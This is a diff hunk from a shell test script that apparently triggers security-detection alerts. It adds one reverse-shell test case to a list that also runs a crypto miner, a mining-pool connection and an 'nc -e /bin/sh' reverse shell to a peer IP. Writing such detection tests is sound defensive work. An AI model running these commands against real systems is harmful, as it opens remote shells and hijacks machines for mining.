@@ -146,6 +146,7 @@ act "uid 1000 reads /home/app/notes.txt" "$app" "" $X -u 1000 "$app" /bin/cat /h
 act "connect to a pool port (3333)" "$app" "Outbound connection to a mining pool port" $X "$app" /opt/bhr/act connect "$peer_ip" 3333
 act "miner by name" "$app" "Crypto miner run" $X "$app" /opt/bhr/xmrig --donate-level 1
 act "reverse shell (nc -e /bin/sh)" "$app" "Reverse shell" $X "$app" /usr/bin/nc "$peer_ip" 9001 -e /bin/sh
+act "shell on a TCP connection, plain command line" "$app" "Reverse shell" $X "$app" /opt/bhr/act revshell "$peer_ip" 9001
 act "listen on 31337" "$app" "New listening port" $X "$app" /opt/bhr/act listen 31337
 act "setuid root program by uid 1000" "$app" "Setuid program run" $X -u 1000 "$app" /opt/bhr/suid-true
 act "setuid(0) by uid 1000 (saved uid 0)" "$app" "Non-root process set uid 0" $X "$app" /opt/bhr/act setuid0
